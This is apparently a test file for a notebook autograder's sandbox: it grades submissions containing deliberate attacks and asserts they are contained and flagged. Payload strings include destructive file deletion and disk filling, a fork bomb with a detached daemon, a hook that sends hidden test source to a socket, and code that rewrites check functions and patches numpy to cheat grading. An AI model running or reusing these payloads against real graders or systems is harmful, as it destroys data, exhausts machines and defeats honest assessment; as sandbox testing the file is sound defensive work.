"""Submissions that attack the grader, graded by the real pipeline (two workers, the jail).

Each attacker knows the grader's code and the course's absolute paths (the strongest student), and
hands in assignment 01 with an attack in an answer cell. The class is graded twice: once with the
attackers and once without them. Outcome asserted for every attack: nothing outside the submission
changed, nothing left running, every other student's grades identical to the run without the
attackers, and the attacker flagged or losing points.
"""

import hashlib
import socket
import threading
import uuid

import nbformat
import pytest
from conftest import COURSE, processes_with
from nbgrader.api import Gradebook

from autograder.course import make_scratch_course
from autograder.devtools.simulate import answered_notebook, release_notebook, write_submission
from autograder.grade import grade_course
from autograder.grading.record import read_record
from autograder.report import write_report

pytestmark = pytest.mark.slow
A = "01_admissions"
MARKER = f"i10-attack-{uuid.uuid4().hex[:8]}"
SCRATCH_BYTES = 32 * 1024**2
WRONG_PREDICT = "def predict(X, W, b):\n    return (np.asarray(X) @ np.asarray(W) + b > 0).astype(int)\n"
SOLVED = None  # filled in by the fixture: {function: solution source}


def _solution(course, function):
    nb = answered_notebook(course, A)
    return next(c.source for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == function)


def vandal(course, home_file):
    """Overwrite the gradebook, delete the others' submissions, overwrite source/ and release/, write to the
    instructor's home, walk up from the working folder, and fill the disk."""
    return f"""
import os, shutil, errno
_results = {{}}
def _try(label, action):
    try:
        action()
        _results[label] = "DONE"
    except OSError as error:
        _results[label] = errno.errorcode.get(error.errno, str(error.errno))
_course = {str(course.root)!r}
_try("gradebook", lambda: open(os.path.join(_course, "gradebook.db"), "w").write("gone"))
_try("submitted", lambda: shutil.rmtree(os.path.join(_course, "submitted")))
_try("source", lambda: open(os.path.join(_course, "source", {A!r}, {A + ".ipynb"!r}), "w").write("{{}}"))
_try("release", lambda: shutil.rmtree(os.path.join(_course, "release")))
_try("home", lambda: open({str(home_file)!r}, "a").write("owned"))
_try("walk_up", lambda: [os.listdir(os.path.join(*([".."] * n))) for n in range(1, 8)])
_try("usr", lambda: open("/usr/lib/owned", "w"))
def _fill(folder):
    os.makedirs(folder, exist_ok=True)
    chunk = b"x" * (1 << 20)
    for i in range(10_000):
        with open(os.path.join(folder, f"fill{{i}}"), "wb") as handle:
            for _ in range(100):
                handle.write(chunk)
_try("fill_disk", lambda: _fill("/tmp/work/fill"))
_try("fill_sockets_folder", lambda: _fill("/tmp/conn/fill"))
shutil.rmtree("/tmp/work/fill", ignore_errors=True)
shutil.rmtree("/tmp/conn/fill", ignore_errors=True)
print("VANDAL", sorted(_results.items()))
"""


def daemons():
    """A daemon in its own session (double fork + setsid), 8 children, and as many processes as it can."""
    return f"""
import os, subprocess, sys
_children = [subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", {MARKER!r}]) for _ in range(8)]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", {MARKER!r}, "daemon"])
    os._exit(0)
_started = 0
try:
    for _ in range(1000):
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", {MARKER!r}, "bomb"])
        _started += 1
except OSError as error:
    print("FORK LIMIT", type(error).__name__)
print("STARTED", _started)
"""


def spy(port):
    """A post_run_cell hook that sends each cell's source (hidden tests included) to a socket, and sockets
    opened directly (TCP to the host, a listening socket)."""
    return f"""
import socket
def _send(result):
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=1) as connection:
            connection.sendall(result.info.raw_cell.encode())
    except OSError:
        pass
get_ipython().events.register("post_run_cell", _send)
for _address in (("127.0.0.1", {port}), ("10.0.0.1", 80)):
    try:
        socket.create_connection(_address, timeout=1).sendall(b"hello")
        print("CONNECTED", _address)
    except OSError as error:
        print("NO NETWORK", type(error).__name__)
_listener = socket.socket()
_listener.bind(("127.0.0.1", 0))
_listener.listen()
"""


# Rewrites the code of every check function, keeping its identity (the fingerprint of identities saw nothing).
CODE_SWAP = WRONG_PREDICT + """
import nnhelpers.checks as _checks
def _nothing(*args, **kwargs):
    return args[0] if args else None
for _name in dir(_checks):
    _f = getattr(_checks, _name)
    if callable(_f) and hasattr(_f, "__code__") and _name.startswith("check_"):
        _f.__code__ = _nothing.__code__
        _f.__defaults__ = None
        _f.__kwdefaults__ = None
"""

# Changes the caller's array (must fail test_score_hidden) and blinds check_not_modified's deepcopy.
DEEPCOPY_SWAP = '''
import copy
import numpy as np

def score(X, W, b):
    if isinstance(X, np.ndarray) and X.dtype.kind == "f":
        X *= W
        return X.sum(axis=-1) + b
    return np.asarray(X, dtype=float) @ np.asarray(W, dtype=float) + b

copy.deepcopy = lambda value, memo=None: value
'''

# The other ways to fool the tests from inside: numbers, numpy, exception handlers, IPython hooks.
PATCHER = WRONG_PREDICT + """
import numbers, sys
import numpy
numbers.Number.register(list)
numpy.array_equal = lambda *args, **kwargs: True
get_ipython().set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: None)
get_ipython().input_transformers_cleanup.append(lambda lines: lines)
"""


# sys.excepthook: IPython puts its own back after every cell, so this changes nothing.
EXCEPTHOOK = WRONG_PREDICT + """
import sys
sys.excepthook = lambda *args: None
"""


class Listener:
    """A TCP server on 127.0.0.1 that counts what reaches it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                self.received.append(connection.recv(1 << 16))

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.server.close()


def _digest_tree(folder):
    digest = hashlib.sha256()
    for path in sorted(p for p in folder.rglob("*")):
        digest.update(str(path.relative_to(folder)).encode())
        if path.is_file():
            digest.update(path.read_bytes())
    return digest.hexdigest()


def _honest(course):
    write_submission(course, "honest_perfect", A, answered_notebook(course, A))
    write_submission(course, "honest_wrong", A, answered_notebook(course, A, replacements={"predict": WRONG_PREDICT}))
    write_submission(course, "honest_blank", A, release_notebook(course, A))


def _grades(course):
    with Gradebook(course.db_url) as gb:
        return {(s.student.id, g.name): (g.auto_score, g.needs_manual_grade)
                for s in gb.assignment_submissions(A) for nb in s.notebooks for g in nb.grades}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    base = tmp_path_factory.mktemp("attacks")
    home_file = base / "instructor_home" / "notes.txt"
    home_file.parent.mkdir()
    home_file.write_text("the instructor's notes\n")
    baseline = make_scratch_course(base / "baseline", COURSE, [A])
    course = make_scratch_course(base / "course", COURSE, [A])
    _honest(baseline)
    _honest(course)
    listener = Listener()
    accuracy = _solution(course, "accuracy")
    attacks = {
        "vandal": {"accuracy": accuracy + vandal(course, home_file)},
        "daemons": {"accuracy": accuracy + daemons()},
        "spy": {"accuracy": accuracy + spy(listener.port)},
        "code_swap": {"predict": CODE_SWAP},
        "deepcopy_swap": {"score": DEEPCOPY_SWAP},
        "patcher": {"predict": PATCHER},
        "excepthook": {"predict": EXCEPTHOOK},
    }
    for student, replacements in attacks.items():
        write_submission(course, student, A, answered_notebook(course, A, replacements=replacements))
    before = {name: _digest_tree(course.root / name) for name in ("source", "release", "submitted")}
    before["home"] = home_file.read_bytes()
    limits = {"time_cap": 60, "scratch_bytes": SCRATCH_BYTES, "max_processes": 32}
    try:
        grade_course(baseline, [A], workers=2, out=lambda *_: None, **limits)
        results = {r.student: r for r in grade_course(course, [A], workers=2, out=lambda *_: None, **limits)}
    finally:
        listener.close()
    rows, _paths = write_report(course, [A])
    after = {name: _digest_tree(course.root / name) for name in ("source", "release", "submitted")}
    after["home"] = home_file.read_bytes()
    return {"course": course, "baseline": baseline, "results": results, "rows": {r.student_id: r for r in rows},
            "before": before, "after": after, "listener": listener, "left_running": processes_with(MARKER)}


def _outputs(course, student):
    nb = nbformat.read(str(course.autograded_dir / student / A / f"{A}.ipynb"), as_version=4)
    return "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))


def test_nothing_outside_the_submissions_changed(attacked):
    assert attacked["after"] == attacked["before"]
    assert attacked["course"].gradebook_path.read_bytes()[:16] == b"SQLite format 3\x00"


def test_every_other_students_grades_are_those_of_a_run_without_the_attackers(attacked):
    with_attackers = {k: v for k, v in _grades(attacked["course"]).items() if k[0].startswith("honest_")}
    assert with_attackers == _grades(attacked["baseline"])
    assert len(with_attackers) == 3 * 8


def test_the_vandal_found_nothing_to_destroy_and_is_flagged(attacked):
    out = _outputs(attacked["course"], "vandal")
    line = next(line for line in out.splitlines() if line.startswith("VANDAL"))
    results = dict(eval(line[len("VANDAL "):]))  # noqa: S307 (the printed list of pairs, written by the test)
    # The course and the home folder do not exist in the jail; /usr is read-only; the working folder is a
    # tmpfs of SCRATCH_BYTES (no space left) and each file is capped (file too large).
    assert {results[k] for k in ("gradebook", "source", "home")} == {"ENOENT"}
    assert results["submitted"] == results["release"] == "ENOENT"
    assert results["usr"] in {"EROFS", "ENOENT", "EACCES"}
    assert results["walk_up"] == "DONE"  # it may look around the jail: there is nothing of the course in it
    assert results["fill_disk"] in {"ENOSPC", "EFBIG"} and results["fill_sockets_folder"] in {"ENOSPC", "EFBIG"}
    row = attacked["rows"]["vandal"]
    assert any("read files outside its folder" in f and "gradebook.db" in f for f in row.flags), row.flags
    assert row.score == row.max_score  # its answers are right, and it harmed nobody: it keeps its points


def test_no_process_of_a_submission_survives_grading(attacked):
    assert attacked["left_running"] == []
    out = _outputs(attacked["course"], "daemons")
    started = int(next(line for line in out.splitlines() if line.startswith("STARTED")).split()[1])
    assert "FORK LIMIT" in out and started < 32  # the pids cgroup (or RLIMIT_NPROC) stopped the fork loop
    row = attacked["rows"]["daemons"]
    assert any("process(es) running" in f for f in row.flags), row.flags
    assert any("score withheld" in f for f in row.flags)


def test_the_spy_reached_no_socket_and_is_flagged(attacked):
    assert attacked["listener"].received == []
    out = _outputs(attacked["course"], "spy")
    assert "CONNECTED" not in out and out.count("NO NETWORK") == 2
    row = attacked["rows"]["spy"]
    assert any("event callbacks for 'post_run_cell'" in f for f in row.flags), row.flags
    assert any("score withheld" in f for f in row.flags)


@pytest.mark.parametrize(("student", "finding"), [
    ("code_swap", "nnhelpers.checks.check_equal kept its identity but its code, defaults or closure changed"),
    ("deepcopy_swap", "copy.deepcopy was reassigned"),
    ("patcher", "a list now counts as numbers.Number"),
    ("patcher", "numpy.array_equal was reassigned"),
    ("patcher", "a custom exception handler was installed"),
    ("patcher", "IPython input transformers were changed"),
])
def test_cheating_the_checks_is_caught_and_never_gets_the_points(attacked, student, finding):
    row = attacked["rows"][student]
    record = read_record(attacked["course"], student, A)
    assert record["tampered"] and any(finding in f for f in record["flags"]), record["flags"]
    # The autograde is held back: the report shows no points until a person has looked.
    assert any("score withheld" in f for f in row.flags) and row.score == 0
    grades = _grades(attacked["course"])
    assert all(needs for (who, _test), (_score, needs) in grades.items() if who == student)


def test_an_excepthook_changes_nothing_and_the_wrong_answer_loses_its_points(attacked):
    row = attacked["rows"]["excepthook"]
    record = read_record(attacked["course"], "excepthook", A)
    grades = _grades(attacked["course"])
    assert not record["tampered"] and row.flags == []
    assert grades[("excepthook", "test_predict_on_boundary")] == (0.0, False)
    assert row.score == grades_total(grades, "honest_wrong")


def grades_total(grades, student):
    return sum(score for (who, _test), (score, _needs) in grades.items() if who == student)
